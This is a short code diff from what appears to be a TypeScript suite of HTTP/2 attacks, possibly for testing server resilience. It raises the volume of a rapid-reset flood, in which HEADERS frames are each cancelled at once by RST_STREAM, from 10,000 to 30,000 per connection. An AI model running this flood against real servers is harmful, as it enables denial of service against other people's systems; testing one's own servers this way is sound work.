@@ -28,13 +28,13 @@ const asJson = (key: string) => ({ authorization: `Bearer ${key}`, "content-type
 
 export const http2: Attack[] = [
   {
-    name: "requests that are taken back at once, 20,000 of them",
+    name: "requests that are taken back at once, 60,000 of them",
     async run(target) {
       const block = getHeaders("/t/none");
       const attack = async () => {
         const socket = await openRawHttp2(target);
         const piece = (i: number) => Buffer.concat([frame(frameType.headers, whole, streamId(i), block), resetOf(streamId(i))]);
-        return pour(socket, 10_000, piece);
+        return pour(socket, 30_000, piece);
       };
       await flood(2, attack, { atOnce: 2 });
     },
